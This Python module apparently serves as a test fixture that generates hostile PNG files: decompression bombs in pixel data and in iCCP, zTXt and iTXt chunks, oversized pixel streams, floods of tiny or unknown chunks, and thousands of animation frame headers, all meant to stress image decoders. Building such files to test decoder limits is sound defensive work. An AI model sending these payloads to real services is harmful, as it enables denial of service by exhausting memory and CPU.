"""PNGs: pixels that deflate to nothing, chunks by the thousand, profiles and texts that unpack to megabytes."""

import struct
import zlib
from collections.abc import Iterator

SIGNATURE = b"\x89PNG\r\n\x1a\n"
GRAY, RGB, PALETTE, RGBA = 0, 2, 3, 6
CHANNELS = {GRAY: 1, RGB: 3, PALETTE: 1, RGBA: 4}
MEBIBYTE = 2**20


def attacks(side: int) -> Iterator[tuple[str, bytes]]:
    yield "zeros", picture(side, side, GRAY)
    yield "zeros-of-16-bits-interlaced", picture(side, side, RGBA, bits=16, interlaced=True)
    yield "zeros-of-one-bit-interlaced", picture(side, side, GRAY, bits=1, interlaced=True)
    yield "zeros-long", picture(100_000, side * side // 100_000, RGB)
    yield "more-pixels-than-announced", picture(64, 64, GRAY, pixels=zeros(400 * MEBIBYTE))
    yield "small-chunks", picture(64, 64, GRAY, before=chunk(b"tEXt", b"a\0") * 40_000)
    yield "unknown-chunks", picture(64, 64, GRAY, before=chunk(b"abCd", b"") * 80_000)
    yield "chunks-behind", picture(64, 64, GRAY, behind=chunk(b"abCd", b"") * 80_000)
    yield "empty-pixel-chunks", picture(64, 64, GRAY, before=chunk(b"IDAT", b"") * 80_000)
    content = zlib.compress(bytes(1000 * 1000 + 1000), 0)
    pieces = b"".join(chunk(b"IDAT", content[at : at + 1]) for at in range(len(content) // 20))
    yield "pixels-byte-by-byte", SIGNATURE + header(1000, 1000, GRAY) + pieces + chunk(b"IEND", b"")
    packed = zeros(4 * MEBIBYTE)
    yield "profiles", picture(64, 64, RGB, before=chunk(b"iCCP", b"a\0\0" + packed) * 200)
    yield "a-profile", picture(64, 64, RGB, before=chunk(b"iCCP", b"a\0\0" + packed) * 4)
    yield "packed-texts", picture(64, 64, RGB, before=chunk(b"zTXt", b"a\0\0" + packed) * 200)
    yield "packed-unicode", picture(64, 64, RGB, before=chunk(b"iTXt", b"a\0\1\0\0\0" + packed) * 200)
    yield "frames", picture(64, 64, RGB, before=chunk(b"acTL", struct.pack(">II", 1000, 0)),
                            behind=chunk(b"fcTL", bytes(26)) * 1000)  # fmt: skip


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def header(width: int, height: int, colours: int, bits: int = 8, *, interlaced: bool = False) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colours, 0, 0, interlaced))


def zeros(count: int) -> bytes:
    """So many zeros as zlib writes them, at a thousandth of their size, without writing them (RFC 1950 and 1951)."""
    compressor = zlib.compressobj(9, wbits=-15)
    block = compressor.compress(bytes(MEBIBYTE)) + compressor.flush(zlib.Z_FULL_FLUSH)
    blocks, rest = divmod(count, MEBIBYTE)
    last = zlib.compressobj(9, wbits=-15)
    return (
        b"\x78\xda" + block * blocks + last.compress(bytes(rest)) + last.flush() + struct.pack(">HH", count % 65521, 1)
    )


def picture(
    width: int, height: int, colours: int, *, bits: int = 8, interlaced: bool = False, pixels: bytes = b"",
    before: bytes = b"", behind: bytes = b"",
) -> bytes:  # fmt: skip
    """A black picture; ``pixels`` are deflated already, ``before`` and ``behind`` them stand further chunks."""
    size = (-(-width * bits * CHANNELS[colours] // 8) + 8) * (height + 8)
    content = chunk(b"IDAT", pixels or zeros(size))
    parts = (header(width, height, colours, bits, interlaced=interlaced), before, content, behind, chunk(b"IEND", b""))
    return SIGNATURE + b"".join(parts)
